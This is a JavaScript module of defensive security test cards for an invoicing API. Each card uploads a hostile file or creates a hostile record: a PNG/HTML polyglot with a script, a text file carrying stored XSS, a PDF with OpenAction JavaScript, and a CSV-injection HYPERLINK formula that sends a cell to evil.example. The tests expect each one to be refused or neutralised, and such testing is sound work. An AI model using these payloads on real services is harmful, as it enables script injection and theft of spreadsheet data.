/** Files with hidden or active content. */

import { draft } from './cards_common.js';

const UPLOAD = {
  threat: 'API8:2023 · CWE-434',
  practice: 'Unrestricted file upload: the content of files is inspected, from the first byte to the last',
  code: 'src/security/files/uploads/mod.rs',
  test: 'attacks::files::uploads::corpus::hostile_files_are_refused_for_the_reason_of_their_folder',
  expect: { status: 400, code: 'invalid_input', event: 'input_validation_fail' },
};

/** A PNG of one pixel. */
const PNG = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';
const PAGE = '<!doctype html><script>alert(document.domain)</script>';

/** Uploads a harmless file, which the service must accept, and then a hostile file. */
async function upload(run, name, type, harmless, hostile) {
  const form = (parts) => {
    const body = new FormData();
    body.append('file', new File(parts, name, { type }));
    return { token: run.ben.token, body };
  };
  await run.prepare('POST', '/api/v1/documents', form(harmless));
  await run.send('POST', '/api/v1/documents', form(hostile));
}

/** Returns a PDF of one empty page with further entries in its catalog. */
function pdf(catalog) {
  const objects = [`<</Type/Catalog/Pages 2 0 R${catalog}>>`, '<</Type/Pages/Kids[3 0 R]/Count 1>>', '<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>'];
  let text = '%PDF-1.7\n', table = 'xref\n0 4\n0000000000 65535 f \n';
  objects.forEach((object, n) => {
    table += `${String(text.length).padStart(10, '0')} 00000 n \n`;
    text += `${n + 1} 0 obj\n${object}\nendobj\n`;
  });
  return `${text}${table}trailer\n<</Size 4/Root 1 0 R>>\nstartxref\n${text.length}\n%%EOF\n`;
}

/** @type {import('./play.js').Card[]} */
export const CARDS = [
  {
    ...UPLOAD,
    id: 'polyglot-picture',
    title: 'Upload a picture that is also a page',
    text: 'Polyglot file: a valid PNG is followed by HTML with a script. A browser that guesses the type would run the script.',
    async play(run) {
      const picture = Uint8Array.from(atob(PNG), (char) => char.charCodeAt(0));
      await upload(run, 'picture.png', 'image/png', [picture], [picture, PAGE]);
    },
  },
  {
    ...UPLOAD,
    id: 'page-as-text',
    title: 'Upload a page as a text file',
    text: 'Stored XSS: the file is named and declared as plain text, but contains HTML with a script.',
    threat: 'API8:2023 · CWE-79 · CWE-434',
    async play(run) {
      await upload(run, 'note.txt', 'text/plain', ['A plain note.\n'], [PAGE]);
    },
  },
  {
    ...UPLOAD,
    id: 'pdf-script',
    title: 'Upload a PDF with JavaScript',
    text: 'Active content: the PDF runs a script when it is opened.',
    practice: 'PDFs must not have active content; they are parsed in a child process',
    code: 'src/security/files/uploads/pdf/mod.rs',
    test: 'attacks::files::uploads::pdf::active::active_content_is_refused_with_its_reason_plain_and_compressed',
    async play(run) {
      await upload(run, 'invoice.pdf', 'application/pdf', [pdf('')], [pdf('/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>')]);
    },
  },
  {
    id: 'csv-formula',
    title: 'Put a formula into an export',
    text: 'CSV injection: Ben names a customer with a formula. In a spreadsheet, a click on it would send cells to Ben. In the export, an apostrophe makes the formula plain text.',
    threat: 'CWE-1236',
    practice: 'CSV injection: texts in an export cannot become spreadsheet formulas',
    code: 'src/security/files/csv_injection.rs',
    test: 'attacks::files::csv_injection::export_cells_are_neither_formulas_nor_split',
    outcome: 'neutralised',
    expect: { status: 200 },
    async play(run) {
      const name = '=HYPERLINK("https://evil.example/?"&A1,"Click")', token = run.ben.token;
      const customer = await run.prepare('POST', '/api/v1/customers', { token, body: { name, default_currency: 'EUR' }, purpose: 'attack' });
      await run.prepare('POST', '/api/v1/invoices', { token, body: draft(customer.body.id), purpose: 'preparation' });
      const { body } = await run.prepare('GET', '/api/v1/invoices/export', { token, purpose: 'attack' });
      const cell = `"'${name.replaceAll('"', '""')}"`;
      return body.includes(cell) ? { held: true, text: `Neutralised: the export contains the text ${cell}` } : { held: false, text: `The export does not contain the text ${cell}` };
    },
  },
];
